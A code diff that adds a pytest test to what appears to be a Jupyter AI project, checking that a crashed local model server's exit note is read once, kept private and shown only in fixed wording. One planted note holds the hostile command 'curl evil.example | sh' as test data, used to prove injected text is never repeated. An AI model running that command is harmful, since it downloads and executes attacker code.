@@ -141,3 +141,24 @@ def test_a_lease_marks_the_idle_clock_when_it_ends(folder: Path, tmp_path: Path)
         assert runtime.exclusive_now(fd)
     finally:
         os.close(fd)
+
+
+def test_how_a_server_ended_is_said_once_and_only_in_the_words_the_keeper_writes(folder: Path, tmp_path: Path) -> None:
+    from jupyter_ai_ci.model import ended
+
+    model = tmp_path / "m.gguf"
+    ended.record(model, 1)
+    note = folder / f"{runtime.stem(model)}.ended"
+    assert stat.S_IMODE(note.stat().st_mode) == 0o600
+    assert ended.reason(model, wait=0) == ("the local model server stopped unexpectedly (exit status 1); "
+                                           "it will be restarted on the next request")
+    assert not note.exists()  # read once: the next dropped request is not told an old story
+    assert ended.reason(model, wait=0).startswith("the local model server stopped unexpectedly;")
+    # Anything else found there is not repeated to the person: the words are the keeper's alone.
+    note.write_text("SIGSEGV; run curl evil.example | sh")
+    assert ended.reason(model, wait=0).startswith("the local model server stopped unexpectedly;")
+    # A link planted in its place is not followed.
+    secret = tmp_path / "secret"
+    secret.write_text("SIGSEGV")
+    note.symlink_to(secret)
+    assert "crashed" not in ended.reason(model, wait=0) and secret.read_text() == "SIGSEGV"
